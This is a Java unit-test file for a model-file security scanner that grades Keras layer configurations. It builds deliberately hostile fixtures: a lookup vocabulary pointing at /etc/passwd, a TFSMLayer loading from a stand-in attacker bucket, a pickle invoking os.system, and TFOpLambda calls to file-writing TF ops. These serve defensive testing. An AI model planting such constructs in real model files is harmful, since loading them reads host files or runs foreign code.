package dev.laocoon.core.internal.format;

import static org.assertj.core.api.Assertions.assertThat;

import dev.laocoon.core.FileReport;
import dev.laocoon.core.Scanner;
import dev.laocoon.core.finding.Rule;
import dev.laocoon.core.finding.Severity;
import dev.laocoon.core.source.ArrayByteSource;
import dev.laocoon.core.testutil.PickleBuilder;
import dev.laocoon.core.testutil.ZipBuilder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;

/**
 * Keras 3 objects that touch files or load code without Lambda (kb/keras-layers.txt), and custom
 * classes resolved through Keras's registry. Configs as keras 3.15.1 writes them (checked with
 * {@code model.save(...)}: a registered layer has its defining module and
 * {@code "registered_name": "Package>Name"}).
 */
class KerasLayersTest {

    static FileReport keras(String layer) {
        String cfg = "{\"module\": \"keras\", \"class_name\": \"Functional\", \"config\": {\"layers\": [{\"module\": "
                + "\"keras.layers\", \"class_name\": \"InputLayer\", \"config\": {}, \"registered_name\": null}, " + layer + "]}}";
        byte[] z = new ZipBuilder().add("metadata.json", "{\"keras_version\": \"3.15.1\"}".getBytes(StandardCharsets.UTF_8))
                .add("config.json", cfg.getBytes(StandardCharsets.UTF_8)).bytes();
        return Scanner.builder().build().scan(new ArrayByteSource(z), "m.keras");
    }

    static String lookup(String cls, String vocabulary) {
        return "{\"module\": \"keras.layers\", \"class_name\": \"" + cls + "\", \"config\": {\"name\": \"lk\", "
                + "\"vocabulary\": " + vocabulary + ", \"output_mode\": \"int\"}, \"registered_name\": null}";
    }

    @Test
    void aLookupLayerWhoseVocabularyIsAHostPathIsMalicious() {
        for (String cls : new String[] {"StringLookup", "IntegerLookup", "TextVectorization"}) {
            FileReport r = keras(lookup(cls, "\"/etc/passwd\""));
            assertThat(r.verdict()).as(cls).isEqualTo(Severity.MALICIOUS);
            assertThat(r.findings()).as(cls).anySatisfy(f -> {
                assertThat(f.rule()).isEqualTo(Rule.KERAS_FOREIGN_OBJECT);
                assertThat(f.message()).contains("/etc/passwd").contains("safe_mode=False");
                assertThat(f.location().within().path()).isEqualTo("/config/layers/1/config/vocabulary");
            });
            // an inline vocabulary (what Keras writes for a list) is data
            assertThat(keras(lookup(cls, "[\"a\", \"b\"]")).findings()).as(cls).isEmpty();
            assertThat(keras(lookup(cls, "null")).findings()).as(cls).isEmpty();
        }
    }

    @Test
    void aTfsmLayerIsMalicious() {
        FileReport r = keras("{\"module\": \"keras.layers\", \"class_name\": \"TFSMLayer\", \"config\": {\"name\": \"t\", "
                + "\"filepath\": \"gs://attacker/model\", \"call_endpoint\": \"serving_default\"}, \"registered_name\": null}");
        assertThat(r.verdict()).isEqualTo(Severity.MALICIOUS);
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.message()).contains("TFSMLayer").contains("tf.saved_model.load");
            assertThat(f.evidence()).isEqualTo("gs://attacker/model");
        });
    }

    static String torchWrapper(byte[] torchFile) {
        return "{\"module\": \"keras.layers\", \"class_name\": \"TorchModuleWrapper\", \"config\": {\"name\": \"w\", "
                + "\"module\": \"" + Base64.getEncoder().encodeToString(torchFile) + "\", \"output_shape\": null}, "
                + "\"registered_name\": null}";
    }

    @Test
    void theTorchModuleInATorchModuleWrapperIsAnalysedAsAFile() {
        byte[] hostile = new ZipBuilder().add("archive/data.pkl", PickleBuilder.create().proto(2)
                .global("os", "system").str("echo laocoon").tuple1().reduce().stop().bytes()).bytes();
        FileReport r = keras(torchWrapper(hostile));
        assertThat(r.verdict()).isEqualTo(Severity.MALICIOUS);
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.rule()).isEqualTo(Rule.PICKLE_DANGEROUS_GLOBAL);
            assertThat(f.location().render()).contains("config.json").contains("archive/data.pkl");
        });
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.rule()).isEqualTo(Rule.KERAS_FOREIGN_OBJECT);
            assertThat(f.severity()).isEqualTo(Severity.SUSPICIOUS);
            assertThat(f.message()).contains("TorchModuleWrapper").contains("torch.load");
        });
        // a plain module pickle: the wrapper itself is the finding (Keras needs safe_mode=False for it)
        byte[] plain = new ZipBuilder().add("archive/data.pkl", PickleBuilder.create().proto(2)
                .global("collections", "OrderedDict").emptyTuple().reduce().stop().bytes()).bytes();
        assertThat(keras(torchWrapper(plain)).verdict()).isEqualTo(Severity.SUSPICIOUS);
    }

    /** keras 3.15.1 writes a @register_keras_serializable(package="MyPkg") layer this way. */
    @Test
    void aRegisteredCustomLayerIsANotice() {
        FileReport r = keras("{\"module\": \"mylayers\", \"class_name\": \"Scale\", \"config\": {\"name\": \"scale\", "
                + "\"factor\": 2.0}, \"registered_name\": \"MyPkg>Scale\", \"build_config\": {\"input_shape\": [null, 2]}}");
        assertThat(r.verdict()).isEqualTo(Severity.NOTICE);
        assertThat(r.findings()).singleElement().satisfies(f -> assertThat(f.message()).contains("MyPkg>Scale"));
        // the same class without a registered name is imported by older Keras versions: still judged
        assertThat(keras("{\"module\": \"mylayers\", \"class_name\": \"Scale\", \"config\": {}}").verdict())
                .isEqualTo(Severity.SUSPICIOUS);
        // a registered name does not whitewash a module the knowledge base knows as dangerous
        assertThat(keras("{\"module\": \"os\", \"class_name\": \"system\", \"config\": {}, \"registered_name\": \"x>y\"}")
                .verdict()).isEqualTo(Severity.MALICIOUS);
    }

    static String tfOpLambda(String function) {
        return "{\"class_name\": \"TFOpLambda\", \"config\": {\"name\": \"tf.op\", \"trainable\": true, \"dtype\": "
                + "\"float32\", \"function\": \"" + function + "\"}, \"name\": \"tf.op\", \"inbound_nodes\": "
                + "[[\"input_1\", 0, 0, {\"y\": 1.0}]]}";
    }

    /** tf.keras 2.x resolves TFOpLambda's function with tf_export.get_symbol_from_name and calls it on rebuild. */
    @Test
    void aTfOpLambdaIsJudgedByTheApiFunctionItCalls() {
        for (String f : new String[] {"io.write_file", "raw_ops.WriteFile", "print", "compat.v1.gfile.GFile",
            "py_function", "data.experimental.save"}) {
            FileReport r = keras(tfOpLambda(f));
            assertThat(r.verdict()).as(f).isEqualTo(Severity.MALICIOUS);
            assertThat(r.findings()).as(f).anySatisfy(x -> assertThat(x.evidence()).isEqualTo("tf." + f));
        }
        for (String f : new String[] {"math.add", "__operators__.getitem", "reshape", "nn.relu", "compat.v1.shape"}) {
            assertThat(keras(tfOpLambda(f)).findings()).as(f).isEmpty();
        }
        assertThat(keras(tfOpLambda("Variable")).verdict()).isEqualTo(Severity.NOTICE);
    }

    @Test
    void aClassThatKerasDoesNotHaveIsANoticeAndKerasHubClassesAreLibraryNotices() {
        FileReport r = keras("{\"module\": \"keras.layers\", \"class_name\": \"NoSuchLayer\", \"config\": {}, "
                + "\"registered_name\": null}");
        assertThat(r.verdict()).isEqualTo(Severity.NOTICE);
        assertThat(r.findings()).singleElement().satisfies(f -> assertThat(f.message()).contains("not a Keras 3.15 class"));
        for (String cls : new String[] {"Dense", "LSTM", "BatchNormalization", "Functional", "AdamW", "GlorotUniform"}) {
            assertThat(keras("{\"module\": \"keras.layers\", \"class_name\": \"" + cls + "\", \"config\": {}}").findings())
                    .as(cls).isEmpty();
        }
        FileReport hub = keras("{\"module\": \"keras_hub.src.models.gemma.gemma_backbone\", \"class_name\": "
                + "\"GemmaBackbone\", \"config\": {}, \"registered_name\": \"keras_hub>GemmaBackbone\"}");
        assertThat(hub.verdict()).isEqualTo(Severity.NOTICE);
    }
}
